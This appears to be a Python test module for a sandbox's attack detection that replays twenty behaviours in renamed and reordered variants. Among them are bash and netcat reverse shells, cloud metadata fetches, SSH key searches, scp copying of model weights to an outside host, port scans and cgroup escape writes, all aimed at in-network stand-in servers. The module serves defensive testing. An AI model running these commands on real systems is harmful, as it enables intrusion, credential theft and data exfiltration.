"""Twenty behaviours from public attack suites, as they are really done in a sandbox: each in several variants, under
other names, on other ports, with their arguments in another order. Harmless: tunnel clients are stubs, nothing mines,
and whatever is dialled is in the network's own namespaces.
"""

from __future__ import annotations

import secrets
import shutil
from collections.abc import Callable, Mapping, Sequence
from contextlib import ExitStack
from dataclasses import dataclass, field
from pathlib import Path

from tests.live.peers.network import METADATA, OTHER, SERVER, Network
from tests.live.peers.programs import Program, find, until
from tests.live.running import Sandbox

PYTHON = "/usr/bin/python3"
RUN_S = 12.0
SERVE = """
import select, socket, sys
with socket.create_server(("", int(sys.argv[1]))) as server:
    while True:
        peer, _ = server.accept()
        with peer:
            peer.sendall(sys.argv[2].encode())
            if select.select([peer], [], [], 1)[0]:
                peer.recv(4096)
"""
BANNER = "SSH-2.0-OpenSSH_9.2p1\r\n"
# Read from a file: nothing in the arguments tells what they do.
CONNECT = (
    "import socket, sys\ns = socket.create_connection((sys.argv[1], int(sys.argv[2])), 5)\ns.sendall(b'hello\\n')\n"
)
PACKETS = "import socket\nsocket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3).close()\n"
UNSHARE = (
    "import ctypes\nctypes.CDLL(None).unshare(0x10020000)\n"
    "open('/proc/self/uid_map', 'w').write('0 0 1')\nctypes.CDLL(None).mount(b'x', b'/mnt', b'tmpfs', 0, None)\n"
)
TRACE = (
    "import ctypes, os, sys\nlibc = ctypes.CDLL(None)\npid = int(sys.argv[1])\n"
    "assert libc.ptrace(16, pid, 0, 0) == 0\nos.waitpid(pid, 0x40000000)\nlibc.ptrace(17, pid, 0, 0)\n"
)
SWEEP = """
import socket, sys
for port in range(1, 1025):
    s = socket.socket()
    s.settimeout(0.2)
    s.connect_ex((sys.argv[1], port))
    s.close()
"""


@dataclass
class Stage:
    """A sandbox, its network, and a folder that is no scratch folder of rules: where programs were copied to must not
    be what tells of them."""

    network: Network
    box: Sandbox
    folder: Path
    ending: ExitStack = field(default_factory=ExitStack)

    def start(self, *argv: str, env: Mapping[str, str] | None = None) -> Program:
        return self.network.start_inside(self.box, argv, env=env, cwd=self.folder)

    def run(self, *argv: str, env: Mapping[str, str] | None = None) -> None:
        """Until it ends by itself, whatever its status: a server that refuses is part of the behaviour."""
        program = self.start(*argv, env=env)
        try:
            until(lambda: program.ended() is not None, f"the end of {argv}", seconds=RUN_S)
        finally:
            program.stop()

    def copy(self, program: str, name: str) -> str:
        to = self.folder / name
        to.parent.mkdir(parents=True, exist_ok=True)
        shutil.copy2(find(program), to)
        return str(to)

    def stub(self, name: str) -> str:
        return self.copy("true", name)

    def busybox(self, name: str) -> str:
        return self.copy("busybox", name)

    def script(self, text: str) -> str:
        path = self.folder / f"{secrets.token_hex(4)}.py"
        path.write_text(text)
        return str(path)

    def listen(self, port: int = 0, says: str = "") -> int:
        """Something outside, on every address there, which says this to whoever connects, and hears one answer."""
        port = port or self.network.port()
        server = self.network.start_outside([PYTHON, "-I", "-S", "-c", SERVE, str(port), says])
        self.ending.callback(server.stop)
        self.network.listens(self.network.outside, port, server)
        return port

    def scratch(self, path: Path) -> Path:
        """A file that is gone afterwards, with a folder made for it."""
        made = path.parent if not path.parent.exists() else path
        path.parent.mkdir(parents=True, exist_ok=True)
        gone = shutil.rmtree if made != path else Path.unlink
        self.ending.callback(gone, made)
        return path

    def sleeper(self) -> int:
        program = self.start("/bin/sleep", "3600")
        self.ending.callback(program.stop)
        return program.tgid


Variant = Callable[[Stage], None]


def command(*argv: str, env: Mapping[str, str] | None = None, port: int = 0, says: str = "") -> Variant:
    """`{port}` in it is one that something listens on."""

    def act(stage: Stage) -> None:
        heard = str(stage.listen(port, says)) if port or says or "{port}" in f"{argv}{env}" else ""
        told = {name: value.replace("{port}", heard) for name, value in (env or {}).items()}
        stage.run(*(word.replace("{port}", heard) for word in argv), env=told)

    return act


def shell(program: str, text: str, port: int = 0) -> Variant:
    return command(program, "-c", text, port=port)


def renamed(program: str, name: str, *argv: str, port: int = 0, says: str = "") -> Variant:
    return lambda stage: command(stage.copy(program, name), *argv, port=port, says=says)(stage)


def stub(name: str, *argv: str, before: Sequence[str] = ()) -> Variant:
    return lambda stage: stage.run(*before, stage.stub(name), *argv)


def scripted(text: str, *argv: str, port: int = 0) -> Variant:
    return lambda stage: command(PYTHON, stage.script(text), *argv, port=port)(stage)


def _by_config(stage: Stage) -> None:
    """Nothing but the bytes tells."""
    config = stage.folder / "settings"
    config.write_text(f"Host *\n  Port {stage.listen(says=BANNER)}\n  StrictHostKeyChecking no\n")
    stage.run(stage.copy("ssh", "updater"), "-F", str(config), "-N", f"user@{SERVER}")


def _bash_in_file(stage: Stage) -> None:
    path = stage.folder / "job.sh"
    path.write_text(f"exec 5<>/dev/tcp/{SERVER}/{stage.listen(says='id' + chr(10))}\nbash <&5 >&5 2>&5\n")
    stage.run(stage.copy("bash", "runner"), str(path))


def _hidden(folder: Path, name: str, port: int) -> Variant:
    def act(stage: Stage) -> None:
        path = stage.scratch(folder / f".{secrets.token_hex(4)}" / name if not name.startswith(".") else
                             folder / f"{name}{secrets.token_hex(4)}")  # fmt: skip
        shutil.copy2(find("nc.traditional"), path)
        stage.run(str(path), "-w", "2", SERVER, str(stage.listen(port)))

    return act


def _burn(*argv: str) -> Variant:
    """For as long as it takes: it is stopped with the stage."""

    def act(stage: Stage) -> None:
        stage.ending.callback(stage.start(*argv).stop)

    return act


def _burn_renamed(stage: Stage) -> None:
    path = stage.copy("yes", "worker-0")
    for _ in range(2):
        _burn("/bin/sh", "-c", f"exec {path} >/dev/null")(stage)


def _traced(*argv: str) -> Variant:
    return lambda stage: stage.run(*(word.replace("{pid}", str(stage.sleeper())) for word in argv))


def _trace_in_file(stage: Stage) -> None:
    stage.run(PYTHON, stage.script(TRACE), str(stage.sleeper()))


def _keys(stage: Stage) -> str:
    home = stage.folder / "home" / "dev" / ".ssh"
    home.mkdir(parents=True)
    (home / "id_rsa").write_text("-----BEGIN OPENSSH PRIVATE KEY-----\n")
    return str(stage.folder / "home")


def _scp(*argv: str, program: str = "scp", name: str = "") -> Variant:
    def act(stage: Stage) -> None:
        (stage.folder / "weights.bin").write_bytes(bytes(1000))
        stage.run(stage.copy(program, name) if name else find(program), *argv)

    return act


def _shared(path: str, program: str = "true") -> Variant:
    def act(stage: Stage) -> None:
        place = stage.scratch(Path("/dev/shm", path.replace("X", secrets.token_hex(5))))
        shutil.copy2(find(program), place)
        stage.run(str(place))

    return act


def _metadata(*argv: str, name: str = "", program: str = "nc.traditional") -> Variant:
    def act(stage: Stage) -> None:
        stage.listen(80)
        stage.run(stage.copy(program, name) if name else find(program), *argv)

    return act


SAMPLE: dict[str, tuple[Variant, ...]] = {
    "01 tunnel client": (
        stub("cloudflared", "tunnel", "--url", "localhost:8080", before=("/usr/bin/nohup",)),
        stub("edge-sync", "tunnel", "--no-autoupdate", "--url", "http://127.0.0.1:9000"),
        stub("ngrok", "tcp", "22"),
    ),
    "02 ssh to an odd port": (
        command("/usr/bin/ssh", "-o", "BatchMode=yes", f"user@{SERVER}", "-p", "443"),
        renamed("ssh", "updater", "-p2222", "-l", "user", "-oBatchMode=yes", SERVER),
        _by_config,
    ),
    "03 http proxy egress": (
        command("/usr/bin/curl", "-m", "3", f"http://{OTHER}", env={"http_proxy": f"{SERVER}:3128"}, port=3128),
        command("/usr/bin/curl", "-sm3", f"http://{OTHER}/", "-x", f"{SERVER}:{{port}}"),
        command("/usr/bin/wget", "-T3", "-t1", f"https://{OTHER}/", env={"https_proxy": f"http://{SERVER}:{{port}}"}),
    ),
    "04 reverse shell, bash": (
        command("/bin/bash", "-c", f'bash -c "bash -i >/dev/tcp/{SERVER}/4444" 0>&1', port=4444),
        shell("/bin/bash", f"exec 7<>/dev/tcp/{SERVER}/{{port}}; while read -r l <&7; do $l >&7 2>&1; done"),
        _bash_in_file,
    ),
    "05 reverse shell, netcat": (
        command("/usr/bin/nc.traditional", "-e", "/bin/sh", SERVER, "22", port=22),
        command("/usr/bin/ncat", SERVER, "{port}", "--sh-exec", "exec /bin/bash"),
        renamed("nc.traditional", "sync-agent", SERVER, "{port}", "-e", "/bin/bash"),
    ),
    "06 odd port for the protocol": (
        lambda stage: shell("/bin/sh", f"echo quit | {stage.busybox('telnet')} {SERVER} 8081", port=8081)(stage),
        lambda stage: command(stage.busybox("bin/telnet"), SERVER, "{port}")(stage),
        command("/usr/bin/curl", "-m2", f"telnet://{SERVER}:{{port}}"),
    ),
    "07 hidden executable connects": (
        _hidden(Path("/tmp"), ".evil", 53),
        _hidden(Path("/var/tmp"), "svc", 8443),
    ),
    "08 stratum arguments": (
        command("/bin/echo", "-o stratum+tcp", "-u user", "-p pass"),
        command("/bin/echo", "--pass=x", "--user=wallet.rig1", "--url=stratum+ssl://pool.example:3333"),
        stub("trainer", "-p", "x", "-o", "stratum2+tcp://203.0.113.20:443", "-u", "rig"),
    ),
    "10 cgroup v1 escape": (
        shell("/bin/sh", "echo 'hello' > release_agent"),
        shell("/bin/bash", "printf %s /cmd >\"$PWD/release_agent\""),
        shell("/bin/dash", "echo /cmd | tee ./release_agent >/dev/null"),
        command(PYTHON, "-c", "open('release_agent', 'w').write('/cmd')"),
    ),
    "11 raw disk tools": (
        command("/usr/sbin/debugfs", "-V"),
        renamed("debugfs", "tool", "-R", "ls /etc", "/dev/vda-none"),
        stub("xfs_db", "-r", "-c", "sb 0", "disk.img"),
    ),
    "12 packet socket": (
        command(PYTHON, "-c", "from socket import *; socket(AF_PACKET, SOCK_RAW, 3)"),
        stub("tcpdump", "-w", "out.pcap", "-i", "eth0"),
    ),
    "13 namespaces changed": (
        command("/usr/bin/unshare", "-r", "/bin/true"),
        renamed("unshare", "starter", "--mount", "--map-root-user", "/bin/true"),
        command(PYTHON, "-c", "CLONE_NEWUSER = 1 << 28; __import__('ctypes').CDLL(None).unshare(CLONE_NEWUSER)"),
    ),
    "14 ptrace of another process": (
        _traced("/usr/bin/gdb", "--batch", "-nx", "-p", "{pid}"),
        _traced("/usr/bin/timeout", "1", "/usr/bin/strace", "-o", "out", "-fp", "{pid}", "-e", "trace=none"),
    ),
    "15 cloud metadata service": (
        _metadata("-w", "2", METADATA, "80"),
        _metadata("-sm2", f"http://{METADATA}/latest/meta-data/iam/", program="curl", name="fetch"),
        scripted(CONNECT, METADATA, "80", port=80),
    ),
    "16 environment of another process": (
        command("/bin/cat", "/proc/1/environ"),
        lambda stage: command("/usr/bin/head", "-c", "99", f"/proc/{stage.sleeper()}/environ")(stage),
        shell("/bin/sh", "tr '\\0' '\\n' </proc/$PPID/environ >/dev/null"),
    ),
    "17 search for keys": (
        lambda stage: stage.run("/usr/bin/find", _keys(stage), "-iname", "id_rsa"),
        lambda stage: stage.run("/usr/bin/find", _keys(stage), "-type", "f", "-name", "id_ed25519*"),
        lambda stage: stage.run("/bin/grep", "-rl", "BEGIN OPENSSH PRIVATE KEY", _keys(stage)),
    ),
    "18 port scan": (
        command("/usr/bin/nmap", "-n", "-Pn", "-sV", "-p", "1-1024", SERVER),
        renamed("nmap", "mapper", SERVER, "-p1-200", "-n", "-Pn", "-sT"),
        scripted(SWEEP, SERVER),
    ),
    "19 copy out": (
        _scp("-o", "BatchMode=yes", "weights.bin", f"victim@{SERVER}:/srv"),
        _scp("-P", "2222", "-oBatchMode=yes", "-r", "./weights.bin", f"{SERVER}:"),
        _scp("-q", "weights.bin", f"victim@{SERVER}:up/", name="pushfile"),
    ),
    "20 executable from shared memory": (
        _shared("X"),
        _shared(".d-X/worker"),
        _shared("lib-X.so.1"),
    ),
}  # fmt: skip

# For hours, which a test's settings make seconds.
BURNT: tuple[Variant, ...] = (
    _burn("/bin/sh", "-c", "yes > /dev/null"),
    _burn_renamed,
    _burn(PYTHON, "-c", "while True: pass"),
)
# What only the kernel's own hooks show: nothing in a name or an argument tells.
UNNAMED: dict[str, Variant] = {
    "12 packet socket": scripted(PACKETS),
    "13 namespaces changed": scripted(UNSHARE),
    "14 ptrace of another process": _trace_in_file,
}
